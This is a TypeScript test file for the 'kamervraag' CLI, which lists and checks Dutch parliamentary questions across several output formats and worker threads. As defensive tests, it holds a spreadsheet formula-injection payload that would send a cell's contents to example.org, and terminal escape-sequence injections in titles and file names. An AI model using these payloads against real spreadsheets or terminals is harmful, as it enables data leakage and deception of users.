/**
 * `kamervraag list` through its bin: the overview of the examples in each format on a fixed day
 * (KAMERVRAAG_TODAY), the term from `.kamervraag.json`, the order of the input, errors (a missing path,
 * a file that is no Kamervraag); and `check` and `list` over many files spread over worker threads,
 * with the same output, in the same order, as in one thread.
 */
import { describe, it } from 'node:test';
import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { spawnSync } from 'node:child_process';
import { BIN, cliEnv, EXAMPLES, folderWith, ROOT, run, tempDir } from '../support/cli';
import { FILES_PER_THREAD, MIN_PARALLEL_FILES, poolSize } from '../../server/src/cli/pool';
import { expand, read } from '../../server/src/cli/inputs';

const TODAY = { KAMERVRAAG_TODAY: '2024-11-20' };
const list = (args: string[], env: NodeJS.ProcessEnv = {}) => run(['list', ...args], undefined, { ...TODAY, ...env });

/** A folder with the four examples. */
function examples(dir = tempDir()): string {
  for (const name of fs.readdirSync(path.join(ROOT, EXAMPLES))) fs.copyFileSync(path.join(ROOT, EXAMPLES, name), path.join(dir, name));
  return dir;
}

/** RFC 4180: fields separated by commas, quoted fields with doubled quotes, records ended by CRLF. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let fields: string[] = [];
  let i = 0;
  while (i < text.length) {
    let field = '';
    if (text[i] === '"') {
      for (i++; i < text.length; i++) {
        if (text[i] === '"' && text[i + 1] === '"') field += text[i++];
        else if (text[i] === '"') break;
        else field += text[i];
      }
      i++;
    } else {
      while (i < text.length && text[i] !== ',' && text[i] !== '\r') field += text[i++];
    }
    fields.push(field);
    if (text[i] === ',') i++;
    else if (text.startsWith('\r\n', i)) {
      records.push(fields);
      fields = [];
      i += 2;
    } else assert.fail(`not RFC 4180 at ${i}: ${JSON.stringify(text.slice(i, i + 20))}`);
  }
  return records;
}

describe('kamervraag list', () => {
  it('text: a line per document, in the order of the files, with state, deadline, days and open questions', () => {
    const r = list([EXAMPLES]);
    assert.equal(r.code, 0, r.err);
    assert.equal(r.err, '');
    assert.deepEqual(r.out.split('\n').map((l) => l.replace(/\s+/g, ' ').trim()), [
      'zaaknummer state deadline days open title',
      '2014Z19222 beantwoord 2014-11-20 0/10 Te weinig capaciteit bij politie en Openbaar Ministerie om mensenhandel aan te pakken',
      '2024Z16988 uitgesteld 2024-11-15 9/9 Het bericht «Wachttijden ggz niet goed vastgelegd, zeggen onderzoekers»',
      '2024Z18294 beantwoord 2024-12-04 0/8 Het landelijk kwaliteitskader in relatie tot Preventie met gezag',
      '2024Z18439 te beantwoorden 2024-12-05 15 22/22 Het verdwijnen van de restitutiepolis en de gevolgen voor ggz-patiënten',
      '',
    ]);
    assert.match(list(['--lang', 'nl', EXAMPLES]).out, /^zaaknummer +stand +termijn +dagen +open +titel\n/);
  });

  it('text: a .kvr whose header gives no zaaknummer is named by its file, not "?"', () => {
    const dir = folderWith({ 'notities.kvr': 'Boodschappen\nmelk\n' });
    const r = list([path.join(dir, 'notities.kvr')]);
    assert.equal(r.code, 0, r.err);
    assert.deepEqual(r.out.split('\n').slice(1).map((l) => l.replace(/\s+/g, ' ').trim()), ['notities.kvr te beantwoorden 0/0 Boodschappen', '']);
  });

  it('json: an array of objects with the fields, state one of the four, days counted from KAMERVRAAG_TODAY', () => {
    const r = list(['--format', 'json', EXAMPLES, 'test/fixtures/workspace/2024Z17000.kvr'], { KAMERVRAAG_TODAY: '2024-12-06' });
    assert.equal(r.code, 0, r.err);
    const rows = JSON.parse(r.out) as Array<Record<string, unknown>>;
    assert.deepEqual(rows.map((x) => Object.keys(x)), rows.map(() => ['file', 'zaaknummer', 'title', 'indieners', 'ingediend', 'state', 'deadline', 'days', 'questions', 'unanswered', 'beantwoord', 'postponedOn']));
    assert.deepEqual(rows.map((x) => [x.beantwoord, x.postponedOn]), [['2014-11-24', null], [null, '2024-11-15'], ['2024-11-20', null], [null, null], [null, null]]);
    assert.deepEqual(rows.map((x) => [x.zaaknummer, x.state, x.days]), [
      ['2014Z19222', 'beantwoord', null],
      ['2024Z16988', 'uitgesteld', null],
      ['2024Z18294', 'beantwoord', null],
      ['2024Z18439', 'te laat', -1],
      ['2024Z17000', 'te laat', -45],
    ]);
    assert.deepEqual(rows[1], {
      file: `${EXAMPLES}/2024Z16988.txt`,
      zaaknummer: '2024Z16988',
      title: 'Het bericht «Wachttijden ggz niet goed vastgelegd, zeggen onderzoekers»',
      indieners: ['Van den Hil (VVD)', 'Bikker (ChristenUnie)'],
      ingediend: '2024-10-25',
      state: 'uitgesteld',
      deadline: '2024-11-15',
      days: null,
      questions: 9,
      unanswered: 9,
      beantwoord: null,
      postponedOn: '2024-11-15',
    });
  });

  it('csv: RFC 4180, a header record, quotes doubled, CRLF; indieners joined with "; "', () => {
    const dir = examples();
    const file = path.join(dir, '2024Z18439.txt');
    fs.writeFileSync(file, fs.readFileSync(file, 'utf8').replace(/^(Kamervraag 2024Z18439\n\n)(.*)$/m, '$1Het "verdwijnen", van de polis'));
    const r = list(['--format', 'csv', dir]);
    assert.equal(r.code, 0, r.err);
    const records = parseCsv(r.out);
    assert.deepEqual(records[0], ['file', 'zaaknummer', 'title', 'indieners', 'ingediend', 'state', 'deadline', 'days', 'questions', 'unanswered', 'beantwoord', 'postponedOn']);
    assert.equal(records.length, 5);
    const row = records.find((x) => x[1] === '2024Z18439')!;
    assert.deepEqual(row.slice(1), ['2024Z18439', 'Het "verdwijnen", van de polis', 'Westerveld (GroenLinks-PvdA); Bushoff (GroenLinks-PvdA)', '2024-11-14', 'te beantwoorden', '2024-12-05', '15', '22', '22', '', '']);
    assert.deepEqual(records.find((x) => x[1] === '2014Z19222')!.slice(10), ['2014-11-24', '']);
    assert.match(r.out, /"Het ""verdwijnen"", van de polis"/);
  });

  it('csv: a text a spreadsheet would read as a formula gets the \' that keeps it text; numbers stay numbers', () => {
    const dir = examples();
    const file = path.join(dir, '2024Z18439.txt');
    fs.writeFileSync(file, fs.readFileSync(file, 'utf8')
      .replace(/^(Kamervraag 2024Z18439\n\n)(.*)$/m, '$1=HYPERLINK("https://example.org/?"&A1,"Klik")')
      .replace(/^Indieners? .*$/m, 'Indieners @Jansen (SP), Jansen (D66)'));
    const r = list(['--format', 'csv', dir], { KAMERVRAAG_TODAY: '2024-12-10' });
    assert.equal(r.code, 0, r.err);
    const row = parseCsv(r.out).find((x) => x[1] === '2024Z18439')!;
    assert.deepEqual(row.slice(2, 4), ['\'=HYPERLINK("https://example.org/?"&A1,"Klik")', '\'@Jansen (SP); Jansen (D66)']);
    assert.equal(row[7], '-5', 'days late: a number, unquoted');
    assert.match(r.out, /,-5,/);
  });

  it('text: a control character in a title or file name is shown as \\xHH, not sent to the terminal', () => {
    const dir = tempDir();
    const text = fs.readFileSync(path.join(ROOT, EXAMPLES, '2024Z18439.txt'), 'utf8')
      .replace(/^(Kamervraag 2024Z18439\n\n)(.*)$/m, '$1Het \x1b]8;;https://example.org\x07verdwijnen\x1b]8;;\x07 \x1b[2J\x9b31m');
    fs.writeFileSync(path.join(dir, 'a\x1b[31mb.txt'), text);
    fs.writeFileSync(path.join(dir, 'c\nd.kvr'), 'Kamervraag 2024Z1\x1b[2J\n');
    // Every control character but the line ends.
    // eslint-disable-next-line no-control-regex
    const control = /[\x00-\x09\x0b-\x1f\x7f-\x9f]/;
    const r = list([dir]);
    assert.doesNotMatch(r.out + r.err, control);
    assert.match(r.out, /Het \\x1b\]8;;https:\/\/example\.org\\x07verdwijnen\\x1b\]8;;\\x07 \\x1b\[2J\\x9b31m\n/);
    const c = run(['check', dir]);
    assert.doesNotMatch(c.out + c.err, control);
    assert.match(c.out, /a\\x1b\[31mb\.txt:\d+:\d+ /);
    assert.match(c.out, /c\\x0ad\.kvr:1:12 error zaaknummer-malformed '2024Z1\\x1b\[2J' /);
  });

  it('the term comes from the .kamervraag.json above the file', () => {
    const dir = examples();
    fs.writeFileSync(path.join(dir, '.kamervraag.json'), '{ "answerTermDays": 42 }');
    const rows = JSON.parse(list(['--format', 'json', path.join(dir, '2024Z18439.txt')]).out) as Array<{ deadline: string; days: number }>;
    assert.deepEqual([rows[0]!.deadline, rows[0]!.days], ['2024-12-26', 36]);
    const other = tempDir();
    fs.writeFileSync(path.join(other, 'term.json'), '{ "answerTermDays": 5 }');
    const fixed = JSON.parse(list(['--format', 'json', '--config', path.join(other, 'term.json'), path.join(dir, '2024Z18439.txt')]).out) as Array<{ state: string; days: number }>;
    assert.deepEqual([fixed[0]!.state, fixed[0]!.days], ['te laat', -1], '--config FILE: 14 november + 5 days is the 19th');
  });

  it('a missing path and a file that is no Kamervraag are named on standard error; the others are listed; exit 2, then 1', () => {
    const missing = list(['--format', 'json', `${EXAMPLES}/2014Z19222.txt`, 'nergens.kvr']);
    assert.equal(missing.code, 2);
    assert.match(missing.err, /^kamervraag: nergens\.kvr: .*no such file/im);
    assert.equal((JSON.parse(missing.out) as unknown[]).length, 1);
    const notOne = list([`${EXAMPLES}/2014Z19222.txt`, 'README.md']);
    assert.equal(notOne.code, 1);
    assert.equal(notOne.err, 'kamervraag: README.md: not a Kamervraag: the first line is "# Kamervraag for VS Code".\n');
    assert.equal(notOne.out.split('\n').length, 3, 'the header and the one document');
    const usage = list(['--format', 'xml', EXAMPLES]);
    assert.equal(usage.code, 2);
    assert.match(usage.err, /--format must be text, json, csv or ics, not 'xml'/);
    assert.equal(list([]).code, 2);
  });
});

describe('check and list over many files: worker threads, input order', () => {
  /** 120 Kamervragen (the examples with other zaaknummers), and between them a `.kvr` without a header and one that cannot be decoded. */
  function corpus({ count = 120, oddFiles = true } = {}): string {
    const dir = tempDir();
    const texts = fs.readdirSync(path.join(ROOT, EXAMPLES)).map((n) => fs.readFileSync(path.join(ROOT, EXAMPLES, n), 'utf8'));
    for (let i = 0; i < count; i++) {
      const z = `2024Z${String(30000 + i)}`;
      fs.writeFileSync(path.join(dir, `doc${String(i).padStart(3, '0')}.kvr`), texts[i % texts.length]!.replace(/^Kamervraag \d{4}Z\d{5}/, `Kamervraag ${z}`));
    }
    if (!oddFiles) return dir;
    fs.writeFileSync(path.join(dir, 'doc050x.kvr'), 'Geen Kamervraag\n');
    fs.writeFileSync(path.join(dir, 'doc090x.kvr'), Buffer.from([0x4b, 0xff, 0xfe, 0x00]));
    // `.txt` files after the first Kamervraag: read (and their first line looked at) in the workers.
    fs.writeFileSync(path.join(dir, 'doc060.txt'), texts[0]!.replace(/^Kamervraag \d{4}Z\d{5}/, 'Kamervraag 2024Z39999'));
    fs.writeFileSync(path.join(dir, 'doc070x.txt'), 'Boodschappen\n');
    fs.writeFileSync(path.join(dir, 'doc071x.txt'), Buffer.from('Caf\xe9\n', 'latin1'));
    fs.writeFileSync(path.join(dir, 'doc080x.txt'), Buffer.concat([Buffer.from('Kamervraag 2024Z39998\n\nCr'), Buffer.from([0xe8]), Buffer.from('che\n')]));
    return dir;
  }

  it('list and check: the same output, order and exit code with 3 worker threads as in one thread', () => {
    const dir = corpus();
    for (const args of [['list', dir], ['list', '--format', 'csv', dir], ['check', dir], ['check', '--format', 'json', dir]]) {
      const one = run(args, undefined, { ...TODAY, KAMERVRAAG_WORKERS: '1', KAMERVRAAG_POOL_TRACE: '1' });
      const three = run(args, undefined, { ...TODAY, KAMERVRAAG_WORKERS: '3', KAMERVRAAG_POOL_TRACE: '1' });
      assert.doesNotMatch(one.err, /threads/, 'one thread');
      assert.match(three.err, /^kamervraag: 126 files over 3 threads \(2 workers and the main thread\)\n/, 'spread');
      assert.equal(three.out, one.out, args.join(' '));
      assert.match(three.err, /\nkamervraag: threads busy \d+ ms in \d+ ms\n/);
      assert.equal(three.err.replace(/^.*the main thread\)\n/, '').replace(/kamervraag: threads busy .*\n/, ''), one.err);
      assert.equal(three.code, one.code);
    }
    const listed = run(['list', '--format', 'json', dir], undefined, { ...TODAY, KAMERVRAAG_WORKERS: '3' });
    assert.equal(listed.code, 2, 'a file that cannot be decoded is an I/O failure');
    const zaaknummers = (JSON.parse(listed.out) as Array<{ zaaknummer: string }>).map((r) => r.zaaknummer);
    const expected: Array<string | null> = Array.from({ length: 120 }, (_, i) => `2024Z${30000 + i}`);
    expected.splice(51, 0, null);
    expected.splice(62, 0, '2024Z39999');
    assert.deepEqual(zaaknummers, expected, 'in the order of the files (a .kvr is a Kamervraag by its name, header or not; a .txt by its header)');
    assert.deepEqual(listed.err.trim().split('\n').map((l) => l.replace(dir, 'DIR')), [
      'kamervraag: DIR/doc080x.txt: not UTF-8 text; save the file as UTF-8 and try again.',
      'kamervraag: DIR/doc090x.kvr: not UTF-8 text; save the file as UTF-8 and try again.',
    ], 'the .txt files without a header are left out without a word');
    const checked = run(['check', dir], undefined, { ...TODAY, KAMERVRAAG_WORKERS: '3' });
    assert.match(checked.err, /\n122 documents checked: .*; 2 files could not be read\.\n$/, 'the left-out .txt files are not counted');
  });

  it('a folder search opens .txt files only until it has found a Kamervraag; the rest are looked at when read', () => {
    const dir = tempDir();
    fs.writeFileSync(path.join(dir, 'a.txt'), 'Boodschappen\n');
    fs.writeFileSync(path.join(dir, 'b.kvr'), 'Kamervraag 2024Z12345\n');
    fs.writeFileSync(path.join(dir, 'c.txt'), 'Boodschappen\n');
    fs.writeFileSync(path.join(dir, 'd.txt'), Buffer.from('Caf\xe9\n', 'latin1'));
    fs.writeFileSync(path.join(dir, 'e.txt'), Buffer.concat([Buffer.from('Kamervraag 2024Z12346\n'), Buffer.from([0xff])]));
    fs.writeFileSync(path.join(dir, 'f.txt'), 'Kamervraag 2024Z12347\n');
    return expand([dir]).then(({ sources }) => {
      const at = (name: string) => path.join(dir, name);
      assert.deepEqual(sources, [{ name: at('b.kvr') }, ...['c.txt', 'd.txt', 'e.txt', 'f.txt'].map((n) => ({ name: at(n), ifHeader: true }))], 'a.txt was opened and left out');
      assert.deepEqual(sources.map(read).map((r) => ('leftOut' in r ? 'left out' : 'problem' in r ? r.problem.en : 'text')), [
        'text', 'left out', 'left out', 'not UTF-8 text; save the file as UTF-8 and try again', 'text',
      ]);
      // A folder whose .txt files are all something else is still said to be without Kamervragen.
      const none = tempDir();
      fs.writeFileSync(path.join(none, 'a.txt'), 'Boodschappen\n');
      return expand([none]);
    }).then(({ sources }) => assert.match((sources[0] as { problem: { en: string } }).problem.en, /^directory without Kamervraag documents/));
  });

  it('the pool: KAMERVRAAG_WORKERS threads in all (at most one per 16 files), else one thread per 10,000 files up to one per core; the workers are the threads but the main one', () => {
    const saved = process.env.KAMERVRAAG_WORKERS;
    try {
      process.env.KAMERVRAAG_WORKERS = '4';
      assert.equal(poolSize(MIN_PARALLEL_FILES - 1), 0);
      assert.equal(poolSize(MIN_PARALLEL_FILES), 3);
      assert.equal(poolSize(10_000), 3);
      process.env.KAMERVRAAG_WORKERS = '8';
      assert.equal(poolSize(100), 6, 'ceil(100 / 16) threads');
      process.env.KAMERVRAAG_WORKERS = '1';
      assert.equal(poolSize(10_000), 0, 'one thread: no worker');
      delete process.env.KAMERVRAAG_WORKERS;
      const workers = (files: number) => [1, 2, 4, 16].map((cores) => poolSize(files, cores));
      assert.deepEqual(workers(500), [0, 0, 0, 0], 'by default none for few files: each thread compiles the parser anew');
      assert.deepEqual(workers(FILES_PER_THREAD), [0, 0, 0, 0]);
      assert.deepEqual(workers(2 * FILES_PER_THREAD), [0, 1, 1, 1], 'one worker beside the main thread');
      assert.deepEqual(workers(100_000), [0, 1, 3, 9], 'one thread per FILES_PER_THREAD files, at most one per core');
    } finally {
      if (saved === undefined) delete process.env.KAMERVRAAG_WORKERS;
      else process.env.KAMERVRAAG_WORKERS = saved;
    }
  });

  it('a reader that stops (| head -3) stops the workers: the run ends quietly with exit code 0', () => {
    // More rows than standard output gathers before it writes (output.ts), and at the end a file that
    // cannot be decoded: a run that went on to the end would say so, with exit code 2.
    const dir = corpus({ count: 1000, oddFiles: false });
    fs.writeFileSync(path.join(dir, 'zzz.kvr'), Buffer.from([0x4b, 0xff, 0xfe, 0x00]));
    const r = spawnSync('bash', ['-c', `"${process.execPath}" "${BIN}" list "${dir}" | head -3; echo "exit \${PIPESTATUS[0]}" >&2`], {
      cwd: ROOT, encoding: 'utf8', env: cliEnv({ ...TODAY, KAMERVRAAG_WORKERS: '3' }), timeout: 60_000,
    });
    assert.equal(r.stdout.split('\n').length, 4);
    assert.match(r.stdout, /\n2024Z30001 /);
    assert.equal(r.stderr, 'exit 0\n');
  });
});

describe('kamervraag list: colours', () => {
  it('the state coloured on request (FORCE_COLOR), the columns where they were; none in a pipe', () => {
    const plain = run(['list', EXAMPLES], undefined, TODAY).out;
    const coloured = run(['list', EXAMPLES], undefined, { ...TODAY, FORCE_COLOR: '1' }).out;
    assert.ok(coloured.includes('\x1b[33mte beantwoorden\x1b[39m  2024-12-05'), coloured);
    assert.ok(coloured.includes('\x1b[36muitgesteld\x1b[39m'), coloured);
    assert.equal(coloured.replace(new RegExp(`${String.fromCharCode(27)}\\[[0-9;]*m`, 'g'), ''), plain);
    assert.ok(!plain.includes(String.fromCharCode(27)));
  });
});
